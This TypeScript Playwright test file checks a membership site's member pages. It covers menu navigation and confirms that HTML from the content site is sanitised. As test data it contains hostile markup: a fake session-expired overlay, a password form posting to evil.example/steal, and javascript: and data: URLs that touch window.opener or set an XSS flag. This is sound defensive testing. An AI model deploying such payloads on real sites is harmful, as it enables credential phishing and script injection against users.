// Member area, offers and membership information (spec §2): content-site pages found by title,
// rendered sanitised, what needs a real browser (the menu journey, scripts and the CSP, popups,
// overlays) and hand-made answers. The pages' states and the notes on member pages are page tests
// (tests/pages/account-content.test.tsx).
import { expect, test, type Page } from './support/fixtures';

/** Opens a member page and waits for its own chunk (slow on a busy machine) to show its heading. */
async function open(page: Page, path: string) {
  await page.goto(path);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
}

/** Counts MyPagesLoaded events on the document from the very start of the page. */
async function listenForMyPagesLoaded(page: Page) {
  await page.addInitScript(() => {
    const w = window as unknown as { __myPagesLoaded: number };
    w.__myPagesLoaded = 0;
    document.addEventListener('MyPagesLoaded', () => {
      w.__myPagesLoaded += 1;
    });
  });
}

const myPagesLoadedCount = (page: Page) =>
  page.evaluate(() => (window as unknown as { __myPagesLoaded: number }).__myPagesLoaded);

test.describe('offers and membership information', () => {
  test.beforeEach(async ({ page, signIn }) => {
    await signIn();
    await listenForMyPagesLoaded(page);
  });

  // Each page's states (found by its title in the page language, its menu name, MyPagesLoaded,
  // loading, error, cannot-find, members only) are page tests (tests/pages/account-content.test.tsx).
  // Here what needs a real browser: the menu journey, and hostile HTML meeting the CSP.

  test('the news menu item leads to the membership information @mobile', async ({ page }) => {
    await open(page, '/mina-sidor/offers/');
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Erbjudanden');
    const menu = page.getByRole('navigation', { name: 'Mina sidor' });
    if (await menu.isVisible())
      await menu.getByRole('link', { name: 'Medlemsinformation' }).click();
    else {
      await page.getByRole('combobox', { name: 'Mina sidor' }).click();
      await page.getByRole('option', { name: 'Medlemsinformation' }).click();
    }
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Medlemsinformation');
    await expect(page.getByRole('heading', { name: 'Frysa medlemskapet' })).toBeVisible();
    await expect.poll(() => myPagesLoadedCount(page)).toBe(2);
  });

  test('runs no script from the page HTML and keeps its harmless text', async ({
    page,
    scenario,
    allowCspViolations,
  }) => {
    // The sanitiser's parser meets the inline handler: Chromium reports it, blocked.
    allowCspViolations(['script-src-attr', 'style-src-elem']);
    await scenario('GET', '/wp/v2/pages', 'example=script-injection');
    await open(page, '/mina-sidor/offers/');
    await expect(page.getByText('Våra erbjudanden uppdateras varje månad.')).toBeVisible();
    await expect(page.getByText('Visa ditt medlemskort i receptionen.')).toBeVisible();
    // Give a broken <img onerror> every chance to fire before checking.
    await page.waitForLoadState('networkidle');
    expect(
      await page.evaluate(() => (window as unknown as { __xss?: number }).__xss),
    ).toBeUndefined();
    const body = page.locator('main article');
    await expect(body.locator('script')).toHaveCount(0);
    await expect(body.locator('[onerror]')).toHaveCount(0);
    await expect.poll(() => myPagesLoadedCount(page)).toBe(1);
  });

  test('a hostile page cannot overlay the page, keep window.opener on its links or post a form', async ({
    page,
    leaveToBrowser,
    expectAccessible,
    allowCspViolations,
  }) => {
    // The sanitiser's parser meets the <style> element: Chromium reports it, blocked.
    allowCspViolations(['script-src-attr', 'style-src-elem']);
    leaveToBrowser('GET', '/wp/v2/pages');
    const hostile = `
      <p>Veckans erbjudande: 20 % på massage.</p>
      <div id="overlay" style="position:fixed;inset:0;z-index:2147483647;background:#fff">
        Din session har gått ut. Logga in igen nedan.
      </div>
      <style>main h1 { display: none }</style>
      <dialog open>Ditt konto är spärrat. Ring 08-123 45 67.</dialog>
      <div popover="manual">Vinn ett årskort!</div>
      <div class="MuiBackdrop-root">Laddar …</div>
      <form id="steal" action="https://evil.example/steal" method="post">
        <input name="password" type="password" aria-label="Lösenord">
        <button type="submit">Logga in</button>
      </form>
      <p><a id="out" href="https://evil.example/offer" target="_blank">Till erbjudandet</a></p>
      <p><a id="top" href="https://evil.example/top" target="_top" rel="opener">Visa mer</a></p>
      <p><a id="js" href="javascript:window.__xss=1">Klicka här</a></p>
      <p><a id="data" href="data:text/html,<script>opener.location='https://evil.example'</script>">Öppna</a></p>
      <p><a id="frame" href="https://evil.example/x" target="evilframe">Ram</a></p>`;
    await page.route('**/wp-json/wp/v2/pages**', async (route) => {
      const response = await route.fetch();
      const [offers, ...rest] = (await response.json()) as { content: { rendered: string } }[];
      await route.fulfill({
        response,
        json: [{ ...offers!, content: { ...offers!.content, rendered: hostile } }, ...rest],
      });
    });
    const evil: string[] = [];
    await page.context().route('https://evil.example/**', async (route) => {
      evil.push(`${route.request().method()} ${route.request().url()}`);
      await route.fulfill({ contentType: 'text/html', body: '<title>evil</title><p>evil</p>' });
    });
    await open(page, '/mina-sidor/offers/');
    const body = page.locator('.content-page-body');
    await expect(body.getByText('Veckans erbjudande')).toBeVisible();

    // No overlay: the inline style, the open dialog, the popover and the page's own classes are
    // gone (their text stays), the page's own heading stays on top and visible.
    await expect(body.locator('[style]')).toHaveCount(0);
    await expect(body.locator('style')).toHaveCount(0);
    await expect(body.locator('dialog, [popover], [class]')).toHaveCount(0);
    await expect(page.getByRole('dialog')).toHaveCount(0);
    await expect(body.getByText('Ditt konto är spärrat.')).toBeVisible();
    await expect(page.getByRole('heading', { level: 1, name: 'Erbjudanden' })).toBeVisible();
    const topmost = await page.evaluate(() => {
      const element = document.elementFromPoint(window.innerWidth / 2, window.innerHeight / 2);
      const overlay = [...document.querySelectorAll('.content-page-body div')].find((div) =>
        div.textContent?.trim().startsWith('Din session har gått ut'),
      );
      return element && overlay?.contains(element) ? 'overlay' : 'page';
    });
    expect(topmost).toBe('page');

    // No form to post: the form and its controls are gone, the text around them stays.
    await expect(body.locator('form, input, button, select, textarea')).toHaveCount(0);

    // Every link with a target gets noopener; script and data URLs lose their href.
    // (The ids are gone too: a page's markup must not clobber the app's own.)
    await expect(body.locator('[id]')).toHaveCount(0);
    for (const name of ['Till erbjudandet', 'Visa mer', 'Ram'])
      await expect(body.getByText(name, { exact: true })).toHaveAttribute(
        'rel',
        'noopener noreferrer',
      );
    await expect(body.getByText('Klicka här', { exact: true })).not.toHaveAttribute('href', /./);
    await expect(body.getByText('Öppna', { exact: true })).not.toHaveAttribute('href', /./);

    // The opened page cannot reach back.
    const popupOpened = page.waitForEvent('popup');
    await body.getByText('Till erbjudandet', { exact: true }).click();
    const popup = await popupOpened;
    await popup.waitForLoadState();
    expect(await popup.evaluate(() => window.opener === null)).toBe(true);
    await popup.close();

    await body.getByText('Klicka här', { exact: true }).click();
    expect(await page.evaluate(() => (window as { __xss?: number }).__xss)).toBeUndefined();
    expect(evil.filter((request) => request.startsWith('POST'))).toEqual([]);
    await expect(page).toHaveURL(/\/mina-sidor\/offers\/$/);
    await expectAccessible();
  });
});

test.describe('notes from the content site on member pages (brp_my_pages)', () => {
  test.beforeEach(async ({ signIn }) => {
    await signIn();
  });

  test('a content site that does not answer is not the booking system: no banner', async ({
    page,
    leaveToBrowser,
  }) => {
    leaveToBrowser('GET', '/wp/v2/brp_my_pages');
    await page.route('**/wp-json/wp/v2/brp_my_pages**', (route) =>
      route.fulfill({
        status: 503,
        contentType: 'text/html',
        body: '<h1>Service Unavailable</h1>',
      }),
    );
    const failed = page.waitForResponse((r) => r.url().includes('/wp-json/wp/v2/brp_my_pages'));
    await open(page, '/mina-sidor/bookings/');
    expect((await failed).status()).toBe(503);
    await expect(page.getByRole('heading', { level: 1, name: 'Bokningar' })).toBeVisible();
    await expect(page.getByTestId('api-unavailable')).toHaveCount(0);
    await expect(page.getByText(/Bokningssystemet/)).toHaveCount(0);
  });
});
